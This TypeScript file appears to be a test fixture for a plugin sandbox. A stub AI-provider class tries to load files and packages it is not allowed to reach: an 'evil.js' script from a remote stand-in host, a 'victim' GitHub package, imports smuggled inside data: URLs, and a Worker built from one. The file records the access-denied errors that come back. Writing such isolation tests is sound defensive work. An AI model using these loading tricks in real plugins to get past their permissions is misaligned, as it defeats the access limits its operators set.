import own from 'own-package';
import { createRequire } from 'node:module';
import { inside } from './lib/inside';

const attempt = async (work: () => unknown): Promise<string> => {
  try {
    return `got ${JSON.stringify(await work())}`;
  } catch (error: any) {
    const text = String(error.message);
    return /may load its own files|Requires import access|Cannot find module/.exec(text)?.[0] ?? text;
  }
};
const load = createRequire(import.meta.url);

export default class {
  id = 'curious'; name = 'Curious'; type = 'local'; capabilities = []; models = [];
  async configure() {}
  async isAvailable() { return own === 'own' && inside === 'inside'; }
  getModelsForCapability() { return []; }
  async getModel(id: string) { return { id }; }
  async getHealth() { return { status: 'healthy' }; }

  /** Everything that may not be loaded, by what it is. */
  async look(paths: Record<string, string>): Promise<string[]> {
    const found: string[] = [];
    for (const [name, path] of Object.entries(paths)) {
      found.push(`${name}: import ${await attempt(() => import(path))}`);
      found.push(`${name}: require ${await attempt(() => load(path.replace('file://', '')))}`);
    }
    return found;
  }

  async reach(): Promise<string[]> {
    return [
      await attempt(() => import('https://example.com/' + 'evil.js')),
      await attempt(() => import('npm:others' + '-package')),
      await attempt(() => load('others' + '-package')),
      await attempt(() => import('github:acme/' + 'victim')),
      await attempt(() => import('data:text/javascript,import "npm:others-package"')),
      await attempt(() => import('data:text/javascript,export default 1').then((it: any) => it.default)),
    ];
  }

  async worker(path: string): Promise<string> {
    const source = `import(${JSON.stringify(path)}).then(() => postMessage('got it'), (error) => postMessage(error.message));`;
    const worker = new Worker(`data:text/javascript,${encodeURIComponent(source)}`, { type: 'module' });
    return await new Promise((resolve) => worker.onmessage = ({ data }) => { worker.terminate(); resolve(data); });
  }
}
